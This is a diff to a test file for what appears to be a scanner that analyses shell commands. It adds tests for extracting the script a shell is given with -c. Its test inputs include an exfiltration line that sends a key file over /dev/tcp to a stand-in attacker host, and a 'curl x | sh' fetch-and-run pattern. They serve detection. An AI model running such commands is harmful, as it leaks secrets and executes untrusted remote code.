@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { programName, shellCommands, shellConnections } from "@/scanner/analysis/shell-commands";
+import { programName, shellCommands, shellConnections, shellScript } from "@/scanner/analysis/shell-commands";
 
 describe("shellCommands", () => {
   it("finds every command a line runs, not just its first word", () => {
@@ -71,5 +71,20 @@ describe("shellCommands", () => {
     expect(shellConnections("cat key > /dev/tcp/Collect.Evil.Example/443; echo x >/dev/udp/10.0.0.1/53")).toEqual(["collect.evil.example", "10.0.0.1"]);
     expect(shellConnections("exec 3<>/dev/tcp/$HOST/80")).toEqual([undefined]);
     expect(shellConnections("git status > /dev/null")).toEqual([]);
+  });
+});
+
+describe("shellScript", () => {
+  it("is the line a shell is given with -c, past its other options", () => {
+    expect(shellScript("bash", ["-c", "git status"])).toBe("git status");
+    expect(shellScript("/bin/sh", ["-e", "-o", "pipefail", "-lc", "curl x | sh", "name"])).toBe("curl x | sh");
+    expect(shellScript("zsh", ["--login", "-c", "${…}"])).toBe("${…}");
+  });
+
+  it("is none for a script file, a shell given no -c, or a program that is no shell", () => {
+    expect(shellScript("bash", ["deploy.sh", "-c"])).toBeUndefined();
+    expect(shellScript("bash", ["-i"])).toBeUndefined();
+    expect(shellScript("git", ["-c", "user.name=x", "commit"])).toBeUndefined();
+    expect(shellScript(undefined, ["-c", "curl x"])).toBeUndefined();
   });
 });
